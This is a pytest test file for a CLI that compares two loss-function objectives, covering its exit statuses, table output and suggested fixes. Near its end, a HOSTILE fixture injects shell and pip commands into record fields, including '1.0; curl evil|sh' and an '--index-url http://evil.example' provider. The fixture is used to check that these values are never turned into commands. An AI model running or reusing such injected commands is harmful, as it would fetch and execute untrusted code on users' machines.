"""The program `nectargan diff`: what differs between two objectives, and its exit status."""

import json
import subprocess
import sys
from pathlib import Path

import pytest
import torch
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from nectargan_core import LossManager, Objective
from nectargan_core.cli import main
from nectargan_core.objectives import record_from

ROOT = Path(__file__).parent.parent
HUBER = """
[[extra]]
name = "G_HUBER"
function = "torch.nn:HuberLoss"
arguments = { delta = 0.5 }
weight = 5.0
tags = ["G"]
"""


def run(a, b, *options, status=1):
    done = CliRunner().invoke(main, ["diff", str(a), str(b), *options])
    assert done.exit_code == status, done.output
    return done.stdout if status < 2 else done.output


def found(a, b):
    return [(each["kind"], each["name"], each["before"], each["after"]) for each in json.loads(run(a, b, "--json"))]


@pytest.fixture
def file(tmp_path):
    """Return a function that writes an objective to a new file."""

    def write(text, name="objective.toml"):
        path = tmp_path / name
        path.write_text(text)
        return path

    return write


class TestStatus:
    def test_it_is_0_where_nothing_differs(self, file):
        path = file(HUBER)
        assert run(path, path, status=0).endswith("\n\nNothing differs.\n")
        assert json.loads(run(path, path, "--json", status=0)) == []

    def test_it_is_1_where_something_does(self, file):
        run(file(HUBER), file(HUBER.replace("5.0", "2.5"), "b.toml"), status=1)

    @pytest.mark.parametrize("text", ["nosuch", "gan ++ l1", "nosuch.toml", "runs/a", ""])
    @pytest.mark.parametrize("first", [True, False])
    def test_it_is_2_where_one_cannot_be_read_or_built(self, file, text, first):
        path = file(HUBER)
        assert "Error: " in run(*((text, path) if first else (path, text)), status=2)

    @pytest.mark.slow
    def test_it_is_that_of_the_program(self, file):
        command = [sys.executable, "-m", "nectargan_core", "diff", str(file(HUBER)), "nosuch"]
        done = subprocess.run(command, capture_output=True, text=True, check=False, cwd=ROOT)
        assert (done.returncode, done.stdout) == (2, "")
        assert "nosuch" in done.stderr

    def test_help_says_what_it_is(self):
        shown = " ".join(CliRunner().invoke(main, ["diff", "--help"]).output.split())
        assert "The exit status is 0 if nothing differs, 1 if something does, and 2 if" in shown


class TestTable:
    def test_it_has_what_differs_on_both_sides(self, file):
        a, b = file(HUBER), file(HUBER.replace("5.0", "2.5").replace("0.5", "1"), "b.toml")
        digits = [record_from(str(path)).fingerprint[:12] for path in (a, b)]
        assert run(a, b).splitlines()[-4:] == [
            "",
            "WHAT      OF             A    B",
            "argument  G_HUBER.delta  0.5  1",
            "weight    G_HUBER        5    2.5",
        ]
        shown = " ".join(run(a, b).split())
        assert all(f"(fingerprint {each})" in shown for each in digits)

    def test_a_run_is_compared_with_the_file_that_it_was_made_of(self, file, tmp_path):
        path = file(HUBER)
        with LossManager.from_spec(path, experiment_dir=tmp_path / "run") as manager:
            manager.compute_losses({"y_fake": torch.zeros(1), "y": torch.ones(1)})
        run(path, tmp_path / "run", status=0)
        with LossManager.from_spec(path, experiment_dir=tmp_path / "other", weights={"G_HUBER": 7.0}) as manager:
            manager.compute_losses({"y_fake": torch.zeros(1), "y": torch.ones(1)})
        assert found(path, tmp_path / "other") == [("weight", "G_HUBER", "5", "7")]
        assert found(tmp_path / "other", tmp_path / "run") == [("weight", "G_HUBER", "7", "5")]

    def test_long_names_are_shown_one_below_the_other(self, file):
        losses = {"a": {"function": "one_long_package.module_of_it:Function" + "A" * 40}}
        a = file(json.dumps({"fingerprint": "0", "losses": losses}), "a.json")
        losses = {"a": {"function": "one_long_package.module_of_it:Function" + "B" * 40}}
        b = file(json.dumps({"fingerprint": "1", "losses": losses}), "b.json")
        lines = run(a, b).splitlines()
        assert lines[-3].split() == ["WHAT", "OF", "A,", "BELOW", "IT", "B"]
        assert lines[-2].startswith("function  a   A: one_long")
        assert lines[-1].strip().startswith("B: one_long")

    def test_other_releases_and_providers_alone_change_no_number(self, file):
        objective = {"fingerprint": "0", "losses": {"a": {"function": "acme:A", "provider": "acme"}}}
        a = file(json.dumps({**objective, "providers": {"acme": "1.0"}}), "a.json")
        b = file(json.dumps({**objective, "providers": {"acme": "2.0"}}), "b.json")
        assert run(a, b).endswith("\n\nWhat affects numbers is the same: the fingerprints are.\n")
        assert json.loads(run(a, b, "--json"))[0]["fix"] == "pip install acme==1.0"

    def test_that_is_not_said_of_a_record_that_was_edited(self, file):
        objective = {"fingerprint": "0", "losses": {"a": {"function": "acme:A", "weight": 1.0}}}
        a = file(json.dumps(objective), "a.json")
        b = file(json.dumps(objective).replace("1.0", "2.0"), "b.json")
        assert "the same" not in run(a, b)


class TestDifferences:
    def record(self, **loss):
        return Objective(fingerprint=json.dumps(loss, sort_keys=True), losses={"a": {"function": "acme:A", **loss}})

    def compared(self, before, after):
        return [(each.kind, each.name, each.before, each.after) for each in before.differences(after)]

    @pytest.mark.parametrize(
        ("before", "after", "expected"),
        [
            ({"k": 1}, {"k": 2}, [("a.k", "1", "2")]),
            ({"k": 0.1 + 0.2}, {"k": 0.3}, [("a.k", "0.30000000000000004", "0.3")]),
            ({"k": {"p": 1, "q": 2}}, {"k": {"p": 1, "q": 3}}, [("a.k.q", "2", "3")]),
            ({"k": {"p": 1}}, {"k": {"q": 1}}, [("a.k.p", "1", "not given"), ("a.k.q", "not given", "1")]),
            ({"k": [1, 2]}, {"k": [1, 3]}, [("a.k[1]", "2", "3")]),
            ({"k": [1, 2]}, {"k": [1]}, [("a.k", "[1, 2]", "[1]")]),
            ({"k": [1] * 9}, {"k": [2] * 9}, [("a.k", str([1] * 9), str([2] * 9))]),
            ({"k": True}, {"k": 1}, [("a.k", "true", "1")]),
            ({"k": "1"}, {"k": 1}, [("a.k", '"1"', "1")]),
            ({"k": 1}, {}, [("a.k", "1", "None")]),
            ({"k": "x" * 300 + "1"}, {"k": "x" * 300}, [("a.k", f'"{"x" * 300}1"', f'"{"x" * 300}"')]),
        ],
    )
    def test_arguments_are_compared_down_to_where_they_differ(self, before, after, expected):
        both = [self.record(arguments=arguments) for arguments in (before, after)]
        assert self.compared(*both) == [("argument", *each) for each in expected]

    def test_an_argument_that_is_not_known_differs_from_one_that_is(self):
        both = self.record(arguments={"k": 1}), self.record(unknown=["k"])
        assert self.compared(*both) == [("argument", "a.k", "1", "unknown")]

    def test_another_function_is_shown_with_its_arguments(self):
        both = self.record(arguments={"k": 1}), self.record(function="acme:B", unknown=["k"])
        assert self.compared(*both) == [("function", "a", "acme:A (k=1)", "acme:B (k=?)")]

    def test_a_message_is_cut_and_a_difference_is_not(self):
        (only,) = self.record(arguments={"k": "x" * 999}).differences(self.record())
        assert len(only.before) == 1001
        assert len(str(only)) < 300
        assert len(only.told()) < 300

    def with_options(self, options, unknown=("network",), arguments=None, prefix="", weight_files=None):
        said = {"function": "acme:A", "unknown": list(unknown), "arguments": arguments or {}, "term": "acme:b"}
        return Objective(
            terms=[{"formula": "acme:b + 2*other", "options": {"acme": options}, "prefix": prefix}],
            losses={f"{prefix}a": said if unknown else {**said, "term": None}},
            weight_files=weight_files or {},
            fingerprint=str((options, unknown)),
        )

    def test_options_are_compared_where_arguments_do_not_show_them(self):
        both = self.with_options({"size": 1}), self.with_options({"size": 2})
        assert self.compared(*both) == [("option", "a: acme:b.size", "1", "2")]
        both = self.with_options({"size": 1}, prefix="face_"), self.with_options({}, prefix="face_")
        assert self.compared(*both) == [("option", "face_a: acme:b.size", "1", "not given")]

    def test_options_that_arguments_show_are_not_shown_twice(self):
        both = [self.with_options({"size": size}, arguments={"size": size}) for size in (1, 2)]
        assert self.compared(*both) == [("argument", "a.size", "1", "2")]

    def test_options_that_name_a_weight_file_are_compared_by_its_content(self):
        files = {"weights.pth": "0" * 64}
        both = [
            self.with_options({"checkpoint": f"/{folder}/weights.pth"}, weight_files=files) for folder in ("a", "b")
        ]
        assert "option" not in [each.kind for each in both[0].differences(both[1])]

    def test_options_of_a_function_of_which_all_is_known_do_not_count(self):
        both = [
            self.with_options({"size": size}, unknown=()).model_copy(update={"fingerprint": "0"}) for size in (1, 2)
        ]
        assert self.compared(*both) == []

    @given(st.data())
    def test_a_difference_is_there_if_and_only_if_arguments_differ(self, data):
        leaves = st.booleans() | st.integers(-3, 3) | st.floats(-3, 3) | st.text("ab", max_size=2)
        values = st.recursive(
            leaves, lambda inner: st.lists(inner, max_size=6) | st.dictionaries(st.text("ab"), inner), max_leaves=8
        )
        first, second = (data.draw(st.dictionaries(st.sampled_from("kl"), values)) for _ in range(2))
        both = [self.record(arguments=each).model_copy(update={"fingerprint": "0"}) for each in (first, second)]
        same = plain(first) == plain(second)
        assert (both[0].differences(both[1]) == ()) is same


def plain(value):
    """Return data in which 1 and 1.0 are the same, and 1 and True are not."""
    if isinstance(value, dict):
        return {key: plain(item) for key, item in value.items()}
    if isinstance(value, list):
        return [plain(item) for item in value]
    return str(value) if isinstance(value, bool) else value


HOSTILE = {
    "losses": {"A\n  loss C": {"function": "a:b", "provider": "--index-url http://evil.example x"}},
    "providers": {"--index-url http://evil.example x": "1.0; curl evil|sh", "nectargan-sobel": "9.9 --pre"},
    "versions": {"torch": "2.0\n  pip install evil"},
    "fingerprint": "0",
}


def test_what_a_record_says_is_no_command_and_no_line_of_ours():
    found = Objective.from_dict(HOSTILE).differences(Objective(fingerprint="1"))
    assert not any("pip install" in difference.fix for difference in found)
    for difference in found:
        assert len(str(difference).splitlines()) == len(difference.told().splitlines()) == 1


def test_a_release_that_is_installed_is_not_to_be_installed():
    before, after = (LossManager.from_spec(formula).manifest() for formula in ("l1 + sobel", "l1"))
    (lost,) = [each for each in before.differences(after) if each.kind == "loss"]
    assert (lost.name, lost.fix) == ("G_SOBEL", "add its term")
